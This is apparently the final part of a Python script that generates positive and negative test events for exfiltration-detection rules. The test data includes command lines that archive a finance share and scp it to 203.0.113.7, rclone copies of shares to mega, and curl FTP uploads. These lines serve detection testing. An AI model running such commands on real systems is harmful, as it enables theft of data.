            event("lnx1", lproc("/usr/bin/tar", "tar -czf /tmp/.d.tgz /srv/share/finance"), minutes=0),
            event("lnx1", lproc("/usr/bin/scp", "scp /tmp/.d.tgz u@203.0.113.7:/srv/"), minutes=0, computer="web2.corp.example"),
        ],
    },
    "corr_scheduled_transfer_repeated": {
        "pos": [
            event("sysmon1", proc(TOOLS + "rclone.exe", "rclone.exe copy C:\\Shares mega:x", original="rclone.exe", **SCHED_PARENT), minutes=60 * i)
            for i in range(5)
        ],
        "neg": [
            event("sysmon1", proc(TOOLS + "rclone.exe", "rclone.exe copy C:\\Shares mega:x", original="rclone.exe", **SCHED_PARENT), minutes=60 * i)
            for i in range(3)
        ]
        + [event("sysmon1", proc(SYS32 + "curl.exe", "curl.exe -T C:\\Users\\Public\\a.zip ftp://203.0.113.9/", **SCHED_PARENT), minutes=200)],
    },
}


GENERATED_FOLDERS = ("windows", "linux", "network", "correlation")


def main():
    rules_root = os.path.dirname(HERE)
    # Endpoint rules get their events from this script; other folders (cloud audit
    # logs) keep hand-written events in their source's own format next to these.
    stems = {
        os.path.splitext(name)[0]
        for top in GENERATED_FOLDERS
        for folder, _, names in os.walk(os.path.join(rules_root, top))
        for name in names
        if name.endswith(".yml")
    }
    missing = sorted(stems - CASES.keys())
    unknown = sorted(CASES.keys() - stems)
    if missing or unknown:
        raise SystemExit(f"rules without cases: {missing}; cases without rules: {unknown}")
    for stem, case in sorted(CASES.items()):
        for polarity in ("pos", "neg"):
            path = os.path.join(HERE, f"{stem}.{polarity}.jsonl")
            with open(path, "w", encoding="utf-8", newline="\n") as out:
                for record in case[polarity]:
                    out.write(json.dumps(record, ensure_ascii=False) + "\n")
    print(f"wrote test events for {len(CASES)} rules")


if __name__ == "__main__":
    main()
